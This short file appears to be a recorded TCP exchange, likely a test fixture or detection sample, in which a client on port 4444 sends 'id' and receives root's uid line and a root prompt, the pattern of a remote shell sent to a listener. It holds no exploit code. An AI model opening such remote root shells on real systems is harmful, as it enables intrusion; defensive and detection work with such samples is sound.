# output of id as root sent to a listener.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:4444

>>>
\x23\x20

<<<
id\n

>>>
uid=0(root) gid=0(root) groups=0(root)\n
\x23\x20
